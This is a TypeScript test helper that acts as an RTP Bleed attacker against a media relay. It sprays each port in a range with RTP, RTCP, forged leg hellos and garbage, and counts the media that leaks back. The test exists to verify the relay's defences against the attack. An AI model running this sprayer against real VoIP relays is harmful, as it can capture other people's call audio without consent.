/**
 * The RTP Bleed attacker: sprays every port of the relay's range with RTP, RTCP, hellos for
 * made-up legs and garbage, and reports everything it gets back. It says `spraying` after its
 * first round, so a test can start the call only once the attack is really on (a loaded machine
 * takes seconds to start it), and stops after durationMs or on a `stop` line on stdin.
 */
import dgram from 'node:dgram';
import readline from 'node:readline';
import { encodeHello, looksLikeStun, newLegId, newLegKey } from '../../src/media/challenge';

const { target, portMin, portMax, durationMs } = JSON.parse(process.argv[2]!) as { target: string; portMin: number; portMax: number; durationMs: number };
const socket = dgram.createSocket('udp4');
let mediaIn = 0;
let stunIn = 0;
let sent = 0;
const from = new Set<number>();
socket.on('message', (buf, r) => {
  from.add(r.port);
  if (looksLikeStun(buf)) stunIn++;
  else mediaIn++;
});
socket.on('error', () => undefined); // ICMP port unreachable for unallocated ports
const rtp = Buffer.alloc(172, 0x55);
rtp[0] = 0x80;
rtp[1] = 0; // PCMU
rtp.writeUInt32BE(0xbad, 8);
const rtcp = Buffer.from([0x80, 200, 0, 1, 0, 0, 0x0b, 0xad]);
const garbage = Buffer.from('\x00\x01garbage that is not STUN');
socket.bind(0, () => {
  const started = Date.now();
  let seq = 0;
  let finished = false;
  const finish = (): void => {
    if (finished) return;
    finished = true;
    clearInterval(timer);
    process.stdout.write(`${JSON.stringify({ event: 'done', sent, mediaIn, stunIn, answeringPorts: from.size })}\n`);
    socket.close();
    process.stdin.destroy();
  };
  const timer = setInterval(() => {
    if (Date.now() - started > durationMs) return finish();
    rtp.writeUInt16BE(seq++ & 0xffff, 2);
    // RTP to every port every round (enough to win a naive latch), plus one other kind in turn.
    const extra = [rtcp, encodeHello(newLegKey(), newLegId()), garbage][seq % 3]!;
    for (let p = portMin; p <= portMax; p++) {
      socket.send(rtp, p, target);
      socket.send(extra, p, target);
      sent += 2;
    }
    if (seq === 1) process.stdout.write(`${JSON.stringify({ event: 'spraying' })}\n`);
  }, 20);
  readline.createInterface({ input: process.stdin }).on('line', (line) => {
    if ((JSON.parse(line) as { cmd?: string }).cmd === 'stop') finish();
  });
});
